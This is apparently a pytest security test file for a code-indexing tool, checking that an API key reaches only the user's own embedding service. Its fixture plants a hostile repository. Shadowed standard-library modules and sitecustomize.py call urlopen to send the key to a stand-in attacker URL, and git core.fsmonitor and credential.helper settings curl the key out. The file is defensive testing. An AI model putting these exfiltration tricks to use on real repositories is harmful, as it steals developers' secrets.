"""A tree decides neither where a key goes nor that it goes anywhere: with real processes, and with
all that programs are known to read of the directory they are in."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fake_service import DIM, KEYS, FakeService, fake_service

from cidx_ref.errors import GenerationGone
from cidx_ref.files import Directory
from cidx_ref.index.cidx import checking
from cidx_ref.index.cidx.tree import Job, Tree
from cidx_ref.index.gitrun import Git
from cidx_ref.index.limited import Limits
from cidx_ref.project import Project
from cidx_ref.runtime import SYSTEM
from cidx_ref.testing.own.fixtures import SAMPLE, end_daemon, git, write

pytestmark = pytest.mark.once

SECRET = "sk-very-secret-0123456789"


def config(evil: str) -> str:
    """What the full cidx has in this file, and what somebody might hope is read of it."""
    named = {"api_endpoint": evil, "endpoint": evil, "url": evil, "base_url": evil, "proxy": evil}
    return json.dumps(
        {
            "daemon": {"enabled": True, "watch": False},
            "codebase_dir": ".",
            "embedding_provider": "voyage-ai",
            "voyage_ai": {**named, "model": "voyage-code-3", "api_key": "other"},
            "ollama": {**named, "host": evil},
            "embedder": {**named, "name": "http"},
            "env": {"CIDX_REF_EMBEDDER_URL": evil, "HTTPS_PROXY": evil, "https_proxy": evil},
            "CIDX_REF_EMBEDDER_URL": evil,
        }
    )


def variables(evil: str) -> str:
    names = ("CIDX_REF_EMBEDDER_URL", "VOYAGE_API_BASE", "VOYAGE_BASE_URL", "OPENAI_BASE_URL",
             "OPENAI_API_BASE", "HTTP_PROXY", "HTTPS_PROXY", "https_proxy")  # fmt: skip
    return "".join(f"export {name}={evil}\n" for name in names)


#: Modules of the standard library, and hooks of the interpreter, that would send the key if they
#: were imported from here.
STEALS = """
import os, urllib.request
urllib.request.urlopen({evil!r} + "/?" + os.environ.get("CIDX_REF_EMBEDDER_KEY", ""))
"""
SHADOWS = ("ssl.py", "http/__init__.py", "json/__init__.py", "tokenizers.py", "sitecustomize.py",
           "usercustomize.py", "socket.py", "certifi.py", "conftest.py")  # fmt: skip


def hostile(root: Path, evil: str) -> None:
    for path, content in SAMPLE.items():
        write(root, path, content)
    root.chmod(0o700)
    write(root, ".code-indexer/config.json", config(evil))
    (root / ".code-indexer").chmod(0o700)
    for name in (".env", ".env.local", ".envrc", ".code-indexer/.env", ".bashrc", ".profile"):
        write(root, name, variables(evil))
    host = evil.split("/")[2]
    write(root, ".netrc", f"machine {host} login a password b\ndefault login c password d\n")
    write(root, ".curlrc", f'proxy = "{evil}"\n')
    write(root, "pip.conf", f"[global]\nproxy = {evil}\nindex-url = {evil}\n")
    write(root, "setup.cfg", f"[cidx_ref]\nurl = {evil}\n")
    write(root, "pyvenv.cfg.txt", f"home = {evil}\n")
    for name in SHADOWS:
        write(root, name, STEALS.format(evil=evil))
    points = "[cidx_ref.embedders]\nhttp = ssl:steal\n"
    write(root, "evil-1.0.dist-info/entry_points.txt", points)
    write(root, "evil-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n")
    git(root, "init", "-q")
    for name, value in (
        ("http.proxy", evil),
        ("https.proxy", evil),
        (f"url.{evil}.insteadOf", "https://"),
        ("remote.origin.url", evil),
        ("remote.origin.promisor", "true"),
        ("core.fsmonitor", f"curl {evil}/$CIDX_REF_EMBEDDER_KEY"),
        ("credential.helper", f"!curl {evil}/$CIDX_REF_EMBEDDER_KEY"),
    ):
        git(root, "config", name, value)


@pytest.fixture
def services() -> Iterator[tuple[FakeService, FakeService]]:
    """The user's service, and another that the tree names."""
    with fake_service() as good, fake_service() as evil:
        yield good, evil


@pytest.fixture
def tree(tmp_path: Path, services: tuple[FakeService, FakeService]) -> Iterator[Path]:
    root = tmp_path / "tree"
    root.mkdir()
    hostile(root, services[1].url)
    yield root
    end_daemon(Project.at(root))


def users(url: str) -> dict[str, str]:
    """The environment of a user of the service at `url`."""
    plain = {name: value for name, value in os.environ.items() if name not in KEYS}
    return {
        **plain,
        "CIDX_REF_EMBEDDER": "http",
        "CIDX_REF_EMBEDDER_URL": url,
        "CIDX_REF_EMBEDDER_MODEL": "voyage-code-3",
        "CIDX_REF_EMBEDDER_DIM": str(DIM),
        "CIDX_REF_EMBEDDER_KEY": SECRET,
    }


def run(tree: Path, environment: dict[str, str], *arguments: str) -> tuple[int, str]:
    command = [sys.executable, "-P", "-m", "cidx_ref", *arguments, "--project", str(tree)]
    done = subprocess.run(
        command, cwd=tree, env=environment, capture_output=True, text=True, check=False, timeout=60
    )
    return done.returncode, done.stdout + done.stderr


@pytest.mark.once
@pytest.mark.promise("TRUST-1")
def test_whatever_a_tree_says_the_key_goes_to_the_users_service_alone(
    tree: Path, services: tuple[FakeService, FakeService]
) -> None:
    good, evil = services
    environment = users(good.url)
    said = []
    for arguments in (
        ("index",),
        ("query", "retry on disconnect", "--mode", "semantic", "--json"),
        ("query", "retry on disconnect", "--json"),
        ("status", "--json"),
        ("diagnose", "--json"),
    ):
        status, output = run(tree, environment, *arguments)
        assert status == 0, output
        said.append(output)
    good.faults = ["status 401", "status 418", "redirect"]
    good.elsewhere = f"{evil.url}/embeddings"
    for word in ("one", "two", "three"):
        status, output = run(tree, environment, "query", f"{word} retry", "--mode", "semantic")
        assert (status, len(output.splitlines())) == (2, 1), output
        said.append(output)
    assert evil.connections == []
    assert len(good.asked) == 5  # the documents, one query, which is kept, and three more
    assert {asked.headers["authorization"] for asked in good.asked} == {f"Bearer {SECRET}"}
    found: Any = json.loads(said[1])
    assert found["results"][0]["path"] == "net/retry.py"
    assert found["embedding_ms"] > 0
    assert SECRET not in "".join(said)
    written = [path.read_bytes() for path in tree.rglob("*") if path.is_file()]
    assert not [data for data in written if SECRET.encode() in data]


@pytest.mark.once
@pytest.mark.promise("TRUST-1")
def test_this_would_see_a_key_that_goes_to_the_other_service(
    tree: Path, services: tuple[FakeService, FakeService]
) -> None:
    """The same, with what the tree wants done by the user."""
    _, evil = services
    status, output = run(tree, users(evil.url), "index")
    assert status == 0, output
    assert evil.asked[0].headers["authorization"] == f"Bearer {SECRET}"


PROXY = f"http://me:{SECRET}@proxy.example:8080"


@pytest.mark.promise("TRUST-1")
def test_who_reads_what_may_be_hostile_is_shown_no_key_and_no_proxy(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in (*KEYS, "MY_TOKEN", "DATABASE_URL", "PGPASSWORD", "GIT_ASKPASS", "AWS_SESSION"):
        monkeypatch.setenv(name, SECRET)
    for name in ("HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "ALL_PROXY", "all_proxy"):
        monkeypatch.setenv(name, PROXY)
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", "/home/me/.gitconfig")
    monkeypatch.setenv("LC_ALL", "C.UTF-8")
    shown = Git("git", tmp_path, tmp_path, tmp_path, SYSTEM, Limits())._environment()
    assert SECRET not in repr(shown)
    assert {"PATH", "HOME", "GIT_CONFIG_GLOBAL", "LC_ALL"} <= shown.keys()

    ran: list[dict[str, str]] = []

    def instead(command: list[str], *, env: dict[str, str], **options: Any) -> bytes:
        ran.append(env)
        return b'{"gone": "away"}'

    monkeypatch.setattr(checking, "run", instead)
    monkeypatch.setenv("PYTHONPATH", "/somewhere")
    with Directory.open(tmp_path) as above, pytest.raises(GenerationGone):
        checking.check_apart(Job(tmp_path, Tree(None, True), None, above, "new"))
    assert SECRET not in repr(ran)
    assert (ran[0]["PYTHONPATH"], ran[0]["PATH"]) == ("/somewhere", os.environ["PATH"])


@pytest.mark.once
@pytest.mark.promise("WRITE-3", "QRY-3")
def test_a_run_that_the_service_ends_is_one_line_and_full_text_goes_on(
    tree: Path, services: tuple[FakeService, FakeService]
) -> None:
    good, _ = services
    environment = users(good.url)
    assert run(tree, environment, "index")[0] == 0
    write(tree, "new.py", "def brand_new():\n    return 1\n")
    good.faults = ["status 401"]
    status, output = run(tree, environment, "index")
    told = [line for line in output.splitlines() if not line.startswith("indexing ")]
    assert (status, len(told)) == (2, 1), output
    assert "the service: the key in CIDX_REF_EMBEDDER_KEY is not taken (401)" in told[0]
    good.faults = ["status 401"]
    status, output = run(tree, environment, "query", "retry on disconnect")
    assert (status, "net/retry.py" in output) == (0, True), output
    assert "(without semantic: the service: the key in" in output
    asked = len(good.asked)
    assert run(tree, environment, "index")[0] == 0
    assert len(good.asked) == asked + 1
    assert run(tree, environment, "query", "brand_new", "--mode", "semantic")[0] == 0
